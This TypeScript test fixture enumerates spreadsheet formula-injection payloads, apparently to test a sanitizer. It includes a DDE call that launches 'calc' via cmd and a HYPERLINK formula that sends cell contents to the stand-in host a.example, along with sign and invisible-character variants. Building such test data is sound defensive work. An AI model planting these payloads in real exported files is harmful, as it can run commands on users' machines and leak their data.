// What spreadsheets would run: every sign before every call, and every way of hiding a sign (reliability.md T1).
const CALLS = [
  '1+1',
  'cmd|"/c calc"!A0',
  'HYPERLINK("http://a.example?x="&A1,"ok")',
  'SUM(1,1)*cmd',
  'DDE("a";"b")',
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const FRONTS = [
  '',
  ' ',
  '\t',
  '\n',
  '\r',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200e',
  '\u202d',
  '\0',
  ' \t',
];

export const PAYLOADS: readonly string[] = [
  ...SIGNS.flatMap((sign) => CALLS.map((call) => sign + call)),
  ...FRONTS.flatMap((front) => [`${front}=1+1`, `${front}@SUM(A1)`]),
  '=', '@', '+A1', '-A1', '\tplain', '\rplain', '\nplain', '-1+1', '+1;2', '=-1', '--1', '+-1', '-1e', '+86 139 =1',
]; // prettier-ignore
